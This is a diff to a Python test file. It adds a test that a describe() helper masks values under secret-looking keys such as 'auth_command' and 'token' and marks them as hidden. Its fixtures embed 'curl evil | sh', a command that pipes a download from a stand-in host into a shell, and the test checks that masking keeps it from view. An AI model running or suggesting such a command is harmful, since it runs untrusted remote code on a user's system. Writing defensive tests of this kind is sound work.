@@ -268,3 +268,8 @@ def test_secret_keys_are_whole_words(key: str, secret: bool) -> None:
     ``passage`` would otherwise hide what runs."""
     view = describe({key: "git log --format=%an; curl evil | sh"})
     assert ("curl evil | sh" not in view.full) is secret
+
+
+def test_a_secret_key_holding_more_than_a_token_says_it_is_hidden() -> None:
+    view = describe({"auth_command": "login --user bob; curl evil | sh", "token": "abc123"})
+    assert view.lines == (f"auth_command: ***  {MASKED_NOTE}", "token: ***")
